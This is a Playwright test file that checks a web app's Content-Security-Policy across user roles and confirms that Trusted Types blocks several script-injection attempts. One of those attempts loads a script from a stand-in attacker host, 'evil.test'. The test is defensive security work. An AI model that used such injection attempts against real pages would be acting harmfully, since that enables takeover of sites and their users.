import { expectAllowed, listPaths, watchViolations, type Role } from '../../fixtures/policy.ts';
import { expect, test } from '../../fixtures/test.ts';

const shellPaths = [
  ...['/login', '/signup', '/auth/confirm', '/no/such/page'],
  ...['/unsubscribe', '/newsletter/confirm'],
];

/** Who opens the pages of each remote: those who see the most of it. Those of public-site have a journey of their own. */
const VISITS: Record<string, Role[]> = {
  'public-site': [],
  'client-dashboard': ['client'],
  'dev-dashboard': ['creator'],
  onboarding: ['visitor'],
  admin: ['admin'],
};

// Every page has the same policy, and every other journey fails on a violation, because the browser logs it as an error.
test.describe('the Content-Security-Policy', () => {
  // The pages of one row are opened with an id that no row has.
  test.use({ expectedErrors: /status of 404|This case no longer exists/ });

  for (const role of ['visitor', 'client', 'creator', 'admin'] as const) {
    test(`allows every page, opened by the ${role}`, async ({ page }) => {
      // A remote without an entry is opened by every role.
      const paths = await listPaths((remote) => VISITS[remote]?.includes(role) ?? true);
      await expectAllowed(page, role, role === 'visitor' ? [...shellPaths, ...paths] : paths);
    });
  }
});

test.describe('code that the policy does not allow', () => {
  test.use({ expectedErrors: /Content Security Policy|requires 'Trusted/i });

  test('is neither created from text nor loaded from elsewhere, and is reported', async ({
    page,
  }) => {
    const violations = await watchViolations(page);
    const response = await page.goto('/login');
    const policy = String(response?.headers()['content-security-policy']);
    expect(policy).toMatch(/script-src 'self' 'sha256-/);
    expect(policy).not.toContain('unsafe');
    const outcomes = await page.evaluate(() => {
      const { trustedTypes } = window as unknown as {
        trustedTypes: { createPolicy: (name: string, rules: object) => unknown };
      };
      const attempts = {
        'a script of text': () =>
          (document.createElement('script').textContent = 'document.title = "taken over"'),
        'a script from elsewhere': () =>
          (document.createElement('script').src = 'https://evil.test/code.js'),
        markup: () => (document.body.innerHTML = '<b>taken over</b>'),
        'a policy of its own': () => trustedTypes.createPolicy('other', {}),
      };
      return Object.entries(attempts).map(([name, attempt]) => {
        try {
          attempt();
          return `${name} is allowed`;
        } catch (error) {
          return `${name}: ${(error as Error).name}`;
        }
      });
    });
    expect(outcomes).toEqual([
      'a script of text: TypeError',
      'a script from elsewhere: TypeError',
      'markup: TypeError',
      'a policy of its own: TypeError',
    ]);
    await expect
      .poll(() => violations)
      .toEqual(
        expect.arrayContaining([
          '/login: require-trusted-types-for trusted-types-sink',
          '/login: trusted-types trusted-types-policy',
        ]),
      );
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
  });
});
